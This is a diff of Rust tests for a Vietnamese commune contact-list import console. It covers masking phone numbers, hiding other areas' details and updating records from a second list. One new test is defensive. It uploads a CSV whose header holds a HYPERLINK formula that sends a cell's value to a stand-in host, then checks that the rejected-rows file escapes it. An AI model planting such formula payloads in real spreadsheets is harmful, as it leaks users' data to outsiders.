@@ -83,8 +83,8 @@ async fn a_communes_clerk_previews_then_imports_their_list_once() {
         "area: Xã Bắc Lý is outside the areas this account manages",
         "area: Thị trấn Thắng is outside the areas this account manages",
         "phone: &quot;02043871234&quot; is a landline",
-        // The first rows as they will be stored.
-        "<td>Nguyễn Thị Lan</td><td>+84912345678</td><td>Xã Đoan Bái</td><td>phu-nu</td><td class=\"num\">1998</td>",
+        // The first rows as they will be stored, numbers masked.
+        "<td>Nguyễn Thị Lan</td><td>+849******78</td><td>Xã Đoan Bái</td><td>phu-nu</td><td class=\"num\">1998</td>",
         "Xác nhận nhập 3 người",
     ] {
         assert!(page.contains(expected), "{expected}\n{page}");
@@ -167,7 +167,8 @@ async fn an_area_limited_account_imports_only_into_its_own_commune() {
     let (status, page) = upload(&c, &hostile, &hostile.csrf, "ds.csv", list.as_bytes()).await;
     assert_eq!(status, StatusCode::OK, "{page}");
     assert!(
-        page.contains("phone: +84983111222 belongs to a person of Xã Bắc Lý, outside the areas this account manages"),
+        page.contains("phone: this number is registered in another area; only that area&#x27;s staff or an admin can change its person")
+            && !page.contains("Bắc Lý") && !page.contains("83111222"),
         "{page}"
     );
     let token = common::console::hidden_field(&page, "token");
@@ -233,4 +234,72 @@ async fn a_file_that_is_not_a_list_is_refused_in_vietnamese() {
         page.contains("Không tìm thấy dòng tiêu đề trong 10 dòng đầu"),
         "{page}"
     );
+}
+
+/// A commune's own list needs no commune column; a second list with only given names and a
+/// corrected gender updates without losing what is known. Tags as content audiences name them.
+#[tokio::test]
+async fn a_second_list_corrects_without_losing_what_is_known() {
+    let c = spawn_console().await;
+    let clerk = c.sign_in("thu-ky-xa", Role::Staff, Some("doan-bai")).await;
+    let import = async |list: &str| {
+        let (status, page) = upload(&c, &clerk, &clerk.csrf, "ds.csv", list.as_bytes()).await;
+        assert_eq!(status, StatusCode::OK, "{page}");
+        let token = common::console::hidden_field(&page, "token");
+        let (status, done) = c
+            .form(&clerk, "/import/confirm", &[("token", &token)])
+            .await;
+        assert_eq!(status, StatusCode::OK, "{done}");
+        done
+    };
+    let done = import("Họ và tên,SĐT,Giới tính,Nhãn,Năm sinh\nNguyễn  Thị\tLan,0912000001,Nam,Hội Phụ nữ; Tổ 3,1999\n").await;
+    assert!(done.contains("thêm mới 1 người"), "{done}");
+    let done = import("Tên,SĐT,Giới tính\nLan,0912000001,Nữ\n").await;
+    assert!(done.contains("cập nhật 1 người"), "{done}");
+    let row = sqlx::query(
+        "SELECT p.name, p.area_code, p.birth_year, p.name_given FROM persons p
+         JOIN contacts c ON c.person_id = p.id WHERE c.address = '+84912000001'",
+    )
+    .fetch_one(&c.app.db.pool)
+    .await
+    .unwrap();
+    let got: (String, String, Option<i64>, i64) = (
+        row.try_get(0).unwrap(),
+        row.try_get(1).unwrap(),
+        row.try_get(2).unwrap(),
+        row.try_get(3).unwrap(),
+    );
+    assert_eq!(
+        got,
+        ("Nguyễn Thị Lan".into(), "doan-bai".into(), Some(1999), 1)
+    );
+    let tags: Vec<String> = sqlx::query(
+        "SELECT t.tag FROM person_tags t JOIN contacts c ON c.person_id = t.person_id
+         WHERE c.address = '+84912000001' ORDER BY t.tag",
+    )
+    .fetch_all(&c.app.db.pool)
+    .await
+    .unwrap()
+    .iter()
+    .map(|r| r.try_get(0).unwrap())
+    .collect();
+    assert_eq!(tags, ["hoi-phu-nu", "phu-nu", "to-3"]);
+}
+
+/// The rejected rows' file guards what came from the uploaded file, its header too.
+#[tokio::test]
+async fn the_rejected_rows_file_carries_no_formula() {
+    let c = spawn_console().await;
+    let clerk = c.sign_in("thu-ky", Role::Staff, None).await;
+    let list =
+        "Họ và tên,SĐT,Xã,=HYPERLINK(\"http://x.example/?\"&A2)\n=1+1,02043871234,Đoan Bái,x\n";
+    let (_, page) = upload(&c, &clerk, &clerk.csrf, "ds.csv", list.as_bytes()).await;
+    let href = page.split("href=\"/import/").nth(1).unwrap();
+    let token = &href[..href.find('/').unwrap()];
+    let (status, csv) = c
+        .page(&clerk, &format!("/import/{token}/rejected.csv"))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("\n'=1+1,"), "{csv}");
 }
